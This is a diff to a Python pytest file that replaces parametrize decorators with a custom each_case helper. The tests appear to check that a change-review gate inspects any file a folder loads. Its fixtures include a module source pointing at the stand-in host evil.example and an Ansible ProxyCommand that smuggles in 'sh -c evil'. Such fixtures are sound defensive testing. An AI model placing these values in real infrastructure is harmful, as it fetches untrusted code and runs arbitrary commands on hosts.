@@ -15,6 +15,7 @@ from pathlib import Path
 
 import pytest
 from changecase import committed, gated
+from tables import each_case
 
 COMPONENT = 'component "b" {\n  source = "git::https://evil.example/m"\n}\n'
 PROXY = "ansible_ssh_common_args: '-o ProxyCommand=\"sh -c evil\"'\n"
@@ -42,8 +43,7 @@ BASE = {
 CASES = {shape.format(name): text for shape, text in FOLDERS.items() for name in NAMES}
 
 
-@pytest.mark.parametrize("path", sorted(CASES))
-@pytest.mark.parametrize("tree", [True, False], ids=["tree", "patch"])
+@each_case("path, tree", [(path, tree) for path in sorted(CASES) for tree in [True, False]])
 def test_a_file_its_folder_loads_is_reviewed_whatever_its_name(tmp_path: Path, path: str, tree: bool) -> None:
     case = committed(tmp_path, BASE, {path: CASES[path]})
     code, decision = gated(case, tree, deps=False)
